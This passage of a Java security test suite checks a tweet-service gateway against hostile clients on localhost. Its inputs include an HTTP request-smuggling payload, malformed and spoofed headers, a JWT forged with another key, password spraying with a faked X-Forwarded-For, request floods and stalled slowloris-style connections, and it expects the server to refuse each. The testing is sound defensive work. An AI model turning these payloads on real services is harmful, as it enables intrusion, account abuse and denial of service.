        raw("GET " + tweet + " HTTP/1.1\r\nHost: attacker.example\r\n" + CLOSE),
        body("A public tweet"));
    // Netty reads these leniently, and no harm follows: the gateway routes by path alone and
    // sends each service a request of its own.
    t.answer(200, "no Host", raw("GET " + tweet + " HTTP/1.1\r\n" + CLOSE), body("A public tweet"));
    t.answer(
        200,
        "two Hosts",
        raw("GET " + tweet + " HTTP/1.1\r\nHost: a\r\nHost: b\r\n" + CLOSE),
        body("A public tweet"));
    t.answer(
        200,
        "a folded header",
        raw("GET " + tweet + " HTTP/1.1\r\nHost: a\r\nX-F: 1\r\n 2\r\n" + CLOSE),
        body("A public tweet"));
    t.answer(
        200,
        "HTTP/9.9",
        raw("GET " + tweet + " HTTP/9.9\r\nHost: a\r\n" + CLOSE),
        body("A public tweet"));
    String login =
        "POST " + LOGIN + " HTTP/1.1\r\nHost: a\r\n" + JSON_BODY + "\r\n" + CLOSE.strip() + "\r\n";
    t.refuse(
        400,
        "two different Content-Lengths",
        raw(login + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}"));
    t.refuse(
        400,
        "Content-Length and chunked",
        raw(
            login
                + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /internal/v1/changes HTTP/1.1\r\nHost: a\r\n\r\n"));
    t.refuse(400, "a negative Content-Length", raw(login + "Content-Length: -1\r\n\r\n"));
    t.refuse(400, "a Content-Length that is no number", raw(login + "Content-Length: abc\r\n\r\n"));
    t.refuse(
        Set.of(400, 413),
        "a Content-Length past a long",
        raw(login + "Content-Length: 99999999999999999999\r\n\r\n"));
    t.refuse(
        Set.of(400, 415),
        "an unknown Transfer-Encoding",
        raw(login + "Transfer-Encoding: xchunked\r\n\r\n{}"));
    t.refuse(
        Set.of(400, 417),
        "an Expect no one knows",
        raw(login + "Expect: teapot\r\nContent-Length: 2\r\n\r\n{}"));
    t.refuse(
        400,
        "a header name with a space",
        raw("GET " + TWEETS + " HTTP/1.1\r\nHost: a\r\nX Bad: 1\r\n\r\n"));
    t.refuse(
        400,
        "a NUL in a header",
        raw("GET " + TWEETS + " HTTP/1.1\r\nHost: a\r\nX-Nul: a\u0000b\r\n\r\n"));
    t.refuse(
        400, "a request line of garbage", raw("\u0001\u0002\u0003 / HTTP/1.1\r\nHost: a\r\n\r\n"));
    return t;
  }

  private Table othersData() {
    var t = new Table("others' data");
    String mine = TWEETS + privateTweet;
    String theirs = TWEETS + publicTweet;
    String as = bearer(intruderToken);
    byte[] edit = bytes(text("Taken over"));
    String hidden =
        localhost
            .get(TWEETS + "999999999")
            .body()
            .replace("999999999", Long.toString(privateTweet));
    t.refuse(404, "anyone reads a private tweet", get(mine), body(hidden));
    t.refuse(404, "another account reads a private tweet", request("GET", mine, List.of(as), null));
    t.refuse(
        404,
        "another account edits a private tweet",
        request("PUT", mine, List.of(as, JSON_BODY), edit),
        unchanged());
    t.refuse(
        404,
        "another account deletes a private tweet",
        request("DELETE", mine, List.of(as), null),
        unchanged());
    t.refuse(
        403,
        "another account edits a public tweet",
        request("PUT", theirs, List.of(as, JSON_BODY), edit),
        unchanged());
    t.refuse(
        403,
        "another account deletes a public tweet",
        request("DELETE", theirs, List.of(as), null),
        unchanged());
    byte[] hide = bytes("{\"text\":\"A public tweet of the owner\",\"private\":true}");
    t.refuse(
        403,
        "another account hides a public tweet",
        request("PUT", theirs, List.of(as, JSON_BODY), hide),
        unchanged());
    byte[] named = bytes("{\"text\":\"hi\",\"username\":\"" + owner + "\"}");
    t.refuse(
        400,
        "a tweet in someone else's name",
        request("POST", TWEETS, List.of(as, JSON_BODY), named));
    t.answer(
        200,
        "another account reads the owner's timeline",
        request("GET", TWEETS + owner + "?size=100", List.of(as), null),
        answer -> assertThat(answer.body()).contains("A public tweet").doesNotContain(privateWord));
    t.answer(200, "anyone searches for a private word", get(SEARCH + privateWord), body("[]"));
    t.answer(
        200,
        "anyone reads the owner's profile",
        get(USERS + "/" + owner),
        answer -> assertThat(answer.body()).doesNotContain("@example.com", "password"));
    t.answer(
        200,
        "another account asks for its own profile",
        request("GET", USERS + "/me", List.of(as), null),
        answer -> assertThat(answer.body()).contains(intruder).doesNotContain(owner));
    t.refuse(409, "registering the owner's name again", post(USERS, registration(owner)));
    String capitals =
        registration("other_" + owner.substring(6))
            .replace(
                "other_" + owner.substring(6) + "@example.com",
                (owner + "@EXAMPLE.COM").toUpperCase());
    t.refuse(409, "registering the owner's email in capitals", post(USERS, capitals));
    t.answer(
        200,
        "the owner edits the private tweet and says nothing of privacy",
        as(ownerToken, "PUT", mine, text("Private " + privateWord + " notes"), JSON),
        answer -> assertThat(localhost.get(mine).status()).as("still private").isEqualTo(404));
    return t;
  }

  private Table securityHeaders() {
    var t = new Table("security headers");
    Check browser =
        answer -> {
          assertThat(answer.header("X-Content-Type-Options")).isEqualTo("nosniff");
          assertThat(answer.header("X-Frame-Options")).isEqualTo("DENY");
          assertThat(answer.header("Referrer-Policy")).isEqualTo("same-origin");
        };
    Check page =
        answer -> {
          browser.verify(answer);
          assertThat(answer.header("Content-Security-Policy"))
              .contains("default-src 'self'", "frame-ancestors 'none'", "object-src 'none'")
              .doesNotContain("unsafe-inline", "unsafe-eval");
        };
    t.cases.add(new Case(t.kind, "the web app", get("/"), Set.of(200), "text/html", page));
    t.cases.add(new Case(t.kind, "index.html", get("/index.html"), Set.of(200), "text/html", page));
    t.cases.add(
        new Case(
            t.kind, "the portal", get("/portal/"), Set.of(200), "text/html;charset=UTF-8", page));
    t.answer(200, "an API answer", get(TWEETS + publicTweet), browser);
    t.refuse(404, "a problem", get("/nothing/here"), browser);
    t.refuse(406, "a 406", request("GET", TWEETS, List.of("Accept: text/html"), null), browser);
    // Answered before the gateway's filters: nosniff, checked on every problem, is what matters.
    t.refuse(400, "a request target that is no URI", get(TWEETS + "%zz"));
    return t;
  }

  private Check body(String part) {
    return answer -> assertThat(answer.body()).contains(part);
  }

  /** The owner's two tweets are as they were. */
  private Check unchanged() {
    return answer -> {
      assertThat(localhost.get(TWEETS + publicTweet).body())
          .contains("A public tweet of the owner");
      assertThat(localhost.as(ownerToken).get(TWEETS + privateTweet).body()).contains(privateWord);
    };
  }

  // ------------------------------------------------------------------------ limits and throttles

  /**
   * A client at 127.0.0.2 sprays guesses over many usernames (claiming in X-Forwarded-For to be the
   * machine itself, which no one believes of it), the owner of one of them logs in from 127.0.0.3,
   * and a third floods the login with the right password.
   */
  private void sprayingDoesNotLockTheOwnerOut() {
    String victim = "victim_" + Long.toString(System.nanoTime(), 36);
    register(victim);
    ClientAt sprayer = ClientAt.address("127.0.0.2", port);
    List<Answer> sprayed = new ArrayList<>();
    for (int i = 0; i < 15; i++) {
      String name = i % 3 == 0 ? victim : "guess_" + i + "_" + victim.substring(7);
      Map<String, String> spoofed = Map.of("X-Forwarded-For", "127.0.0.1");
      sprayed.add(sprayer.send("POST", LOGIN, login(name, "123456"), spoofed));
    }
    assertThat(sprayed).extracting(Answer::status).containsOnly(401, 429).contains(429);
    assertThat(sprayed)
        .filteredOn(answer -> answer.status() == 429)
        .allSatisfy(answer -> {
          assertThat(answer.contentType()).isEqualTo(PROBLEM);
          assertThat(answer.header("Retry-After")).matches("[1-9][0-9]*");
        });

    Answer ownerLogin = ClientAt.address("127.0.0.3", port).post(LOGIN, login(victim, CORRECT));
    assertThat(ownerLogin.status()).as(ownerLogin.toString()).isEqualTo(200);
    assertThat(ownerLogin.body()).contains("\"access_token\":");

    ClientAt flood = ClientAt.address("127.0.0.4", port);
    List<Answer> flooded = new ArrayList<>();
    // Ten a minute are let through: a flood meets a refusal within a few more, however slow.
    while (flooded.size() < 30 && (flooded.isEmpty() || flooded.getLast().status() != 429)) {
      flooded.add(flood.post(LOGIN, login(victim, CORRECT)));
    }
    assertThat(flooded).extracting(Answer::status).containsOnly(200, 429).contains(429);
    Answer refused = flooded.getLast();
    assertThat(refused.contentType()).isEqualTo(PROBLEM);
    assertThat(refused.header("Retry-After")).matches("[1-9][0-9]*");
    assertThat(refused.body())
        .startsWith("{\"detail\":\"Too many login attempts from this address; try again in ")
        .endsWith("\"instance\":\"" + LOGIN + "\",\"status\":429,\"title\":\"Too Many Requests\"}");
    assertThat(Http.port(system.managementPort("gateway")).get("/actuator/prometheus").body())
        .containsPattern(
            "flotilla_gateway_rate_limited_total\\{application=\"gateway\",limit=\"login\"} [1-9]");
  }

  /**
   * Nobody spends someone else's allowance: a token forged in the owner's name draws on a bucket of
   * its own, a flood of registrations from one address leaves another's alone, and X-Forwarded-For
   * from a client buys it nothing.
   */
  private void nobodySpendsTheOwnersAllowance() throws Exception {
    long now = Instant.now().getEpochSecond();
    String keyId = JsonPath.read(Jwts.decoded(ownerToken.split("\\.")[0]), "$.kid");
    String forged =
        Jwts.signed(
            Jwts.rs256Header(keyId),
            Jwts.claims(owner, now, now + 3600, "flotilla-users", true),
            Jwts.anotherKey());
    // 500 per 10 s per token, refilled evenly: 1,500 requests in one go meet 429s. Pipelined on
    // one connection, to a path the gateway answers itself (404): the flood costs little.
    String one = "GET /nothing/here HTTP/1.1\r\nHost: a\r\n" + bearer(forged) + "\r\n\r\n";
    String flood = one.repeat(1_499) + one.replace("\r\n\r\n", "\r\n" + CLOSE);
    List<String> statuses =
        Pattern.compile("HTTP/1\\.1 (\\d{3}) ")
            .matcher(pipelined("127.1.254.1", flood))
            .results()
            .map(status -> status.group(1))
            .toList();
    assertThat(statuses).as("the forged token's own bucket ran out").contains("429");
    assertThat(statuses).containsOnly("404", "429");
    Answer mine =
        ClientAt.address("127.1.254.2", port)
            .send("GET", USERS + "/me", null, Map.of("Authorization", "Bearer " + ownerToken));
    assertThat(mine.status()).as(mine.toString()).isEqualTo(200);

    ClientAt registrar = ClientAt.address("127.1.254.3", port);
    List<Integer> registrations = new ArrayList<>();
    while (registrations.size() < 15 && !registrations.contains(429)) {
      registrations.add(registrar.post(USERS, "{}").status());
    }
    assertThat(registrations).containsOnly(400, 429).contains(429);
    String elsewhere = "elsewhere_" + Long.toString(System.nanoTime(), 36);
    Answer registered = ClientAt.address("127.1.254.4", port).post(USERS, registration(elsewhere));
    assertThat(registered.status()).as(registered.toString()).isEqualTo(201);

    ClientAt pretender = ClientAt.address("127.1.254.5", port);
    Map<String, String> spoofed = Map.of("X-Forwarded-For", "127.0.0.1");
    List<Integer> logins = new ArrayList<>();
    while (logins.size() < 15 && !logins.contains(429)) {
      logins.add(pretender.send("POST", LOGIN, "{}", spoofed).status());
    }
    assertThat(logins).containsOnly(400, 429).contains(429);
  }

  /** What the server answered to these requests, all sent at once, until it closed. */
  private String pipelined(String address, String requests) throws IOException {
    var answers = new ByteArrayOutputStream();
    try (var socket = new Socket()) {
      socket.bind(new InetSocketAddress(InetAddress.getByName(address), 0));
      socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 5_000);
      socket.setSoTimeout(30_000);
      Thread.startVirtualThread(() -> {
        try {
          socket.getOutputStream().write(requests.getBytes(StandardCharsets.ISO_8859_1));
        } catch (IOException closed) {
          // The server stopped reading; what it answered tells.
        }
      });
      byte[] buffer = new byte[65_536];
      for (int read; (read = socket.getInputStream().read(buffer)) > 0; ) {
        answers.write(buffer, 0, read);
      }
    } catch (IOException reset) {
      // A reset after some answers: they are what counts.
    }
    return answers.toString(StandardCharsets.ISO_8859_1);
  }

  // ------------------------------------------------------------------------ slow clients

  /**
   * Clients that send part of a request and then nothing: a request line cut off, headers never
   * finished, a body that stops or never comes. Opened first and checked last, so that their wait
   * overlaps the rest; the bound only tells "closed" from "never" (the timeouts are 30 s).
   */
  private final class SlowClients {

    private static final Duration NEVER = Duration.ofSeconds(120);

    private final List<CompletableFuture<String>> closed = new ArrayList<>();

    void start() {
      String body = "Host: a\r\nContent-Type: application/json\r\n";
      List<String> halves = new ArrayList<>();
      halves.add("GET " + TWEETS + " HT");
      halves.add("GET " + TWEETS + " HTTP/1.1\r\nHost: a\r\nX-Slow: ");
      halves.add("POST " + USERS + " HTTP/1.1\r\n" + body + "Content-Length: 100\r\n\r\n{\"user");
      halves.add("POST " + LOGIN + " HTTP/1.1\r\n" + body + "Content-Length: 1073741824\r\n\r\n{}");
      halves.add(
          "POST "
              + LOGIN
              + " HTTP/1.1\r\n"
              + body
              + "Transfer-Encoding: chunked\r\n\r\n5\r\n{\"use\r\n");
      halves.add(
          "POST "
              + TWEETS
              + " HTTP/1.1\r\n"
              + body
              + bearer(ownerToken)
              + "\r\nContent-Length: 100\r\n\r\n{\"text");
      tally("slow clients").inputs += halves.size();
      // The two stalled heads twenty times over, as one client holding many connections would.
      for (int i = 1; i < 20; i++) {
        halves.add(halves.get(0));
        halves.add(halves.get(1));
      }
      for (String half : halves) {
        closed.add(
            CompletableFuture.supplyAsync(() -> untilClosed(half), Thread::startVirtualThread));
      }
    }

    /** What the server said before it closed the connection ("" for nothing). */
    private String untilClosed(String half) {
      try (var socket = new Socket()) {
        socket.bind(new InetSocketAddress(InetAddress.getByName("127.1.253.1"), 0));
        socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 5_000);
        socket.setSoTimeout((int) NEVER.toMillis());
        socket.getOutputStream().write(half.getBytes(StandardCharsets.ISO_8859_1));
        socket.getOutputStream().flush();
        return new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
      } catch (SocketTimeoutException never) {
        return "still open after " + NEVER.toSeconds() + " s: " + half;
      } catch (IOException reset) {
        return "";
      }
    }

    void awaitClosed() {
      Tally tally = tally("slow clients");
      try {
        for (CompletableFuture<String> connection : closed) {
          String said = connection.join();
          assertThat(said).doesNotStartWith("still open");
          if (!said.isEmpty()) {
            int status = Integer.parseInt(said.split(" ", 3)[1]);
            tally.statuses.add(status);
            assertThat(status).as(said).isBetween(400, 499);
          }
        }
        assertThat(localhost.get("/health").status()).isEqualTo(200);
      } catch (AssertionError failed) {
        tally.failures++;
        throw failed;
      }
    }
  }

  // ------------------------------------------------------------------------ requests

  private static final String JSON_BODY = "Content-Type: application/json";

  /** The end of a raw request's head that asks the server to close the connection after. */
  private static final String CLOSE = "Connection: close\r\n\r\n";

  private static byte[] raw(String request) {
    return request.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static String bearer(String token) {
    return "Authorization: Bearer " + token;
  }

  private byte[] get(String target) {
    return request("GET", target, List.of(), null);
  }

  private byte[] post(String target, String json) {
    return post(target, bytes(json));
  }

  private byte[] post(String target, byte[] json) {
    return request("POST", target, List.of(JSON_BODY), json);
  }

  private byte[] asOwner(String method, String target, String json) {
    return as(ownerToken, method, target, json, JSON);
  }

  /** With a bearer token and an Accept, and a JSON body unless null. */
  private byte[] as(String token, String method, String target, String json, String accept) {
    List<String> headers = new ArrayList<>(List.of(bearer(token), "Accept: " + accept));
    if (json != null) {
      headers.add(JSON_BODY);
    }
    return request(method, target, headers, json == null ? null : bytes(json));
  }

  /** A whole request: {@code Content-Length} when there is a body, the connection closed after. */
  private byte[] request(String method, String target, List<String> headers, byte[] body) {
    var head = new StringBuilder(method + " " + target + " HTTP/1.1\r\n");
    head.append("Host: localhost:").append(port).append("\r\nConnection: close\r\n");
    headers.forEach(header -> head.append(header).append("\r\n"));
    if (body != null) {
      head.append("Content-Length: ").append(body.length).append("\r\n");
    }
    var request = new ByteArrayOutputStream();
    request.writeBytes(bytes(head.append("\r\n").toString()));
    if (body != null) {
      request.writeBytes(body);
    }
    return request.toByteArray();
  }

  /** The owner's POST of this JSON in chunks of 8 KB. */
  private byte[] chunked(String target, String json) {
    byte[] body = bytes(json);
    List<String> headers = List.of(JSON_BODY, bearer(ownerToken), "Transfer-Encoding: chunked");
    var request = new ByteArrayOutputStream();
    request.writeBytes(request("POST", target, headers, null));
    for (int at = 0; at < body.length; at += 8192) {
      int length = Math.min(8192, body.length - at);
      request.writeBytes(raw(Integer.toHexString(length) + "\r\n"));
      request.write(body, at, length);
      request.writeBytes(raw("\r\n"));
    }
    request.writeBytes(raw("0\r\n\r\n"));
    return request.toByteArray();
  }

  private static String text(String text) {
    return "{\"text\":\"" + text + "\"}";
  }

  private static String tweet(String text, String tag) {
    return "{\"text\":\"" + text + "\",\"tag\":\"" + tag + "\"}";
  }

  private static String login(String username, String password) {
    return "{\"username\":\"" + username + "\",\"password\":\"" + password + "\"}";
  }

  private static String registration(String username) {
    return registration(username, CORRECT, "Hostile");
  }

  private static String registration(String username, String password, String firstName) {
    String email = username.replaceAll("[^a-z0-9_]", "") + "@example.com";
    return "{\"username\":\"%s\",\"password\":\"%s\",\"email\":\"%s\",\"first_name\":\"%s\",\"last_name\":\"Client\"}"
        .formatted(username, password, email, firstName);
  }

  // ------------------------------------------------------------------------ the suite's accounts

  /** A new account with the password "correct horse"; its token. */
  private String register(String name) {
    Answer signUp = localhost.post(USERS, registration(name));
    assertThat(signUp.status()).as(signUp.toString()).isEqualTo(201);
    Answer login = localhost.post(LOGIN, login(name, CORRECT));
    assertThat(login.status()).as(login.toString()).isEqualTo(200);
    return JsonPath.read(login.body(), "$.access_token");
  }

  private long tweet(String text, boolean isPrivate) {
    String json = "{\"text\":\"" + text + "\",\"private\":" + isPrivate + "}";
    Answer posted = localhost.as(ownerToken).post(TWEETS, json);
    assertThat(posted.status()).as(posted.toString()).isEqualTo(201);
    return posted.id();
  }
}
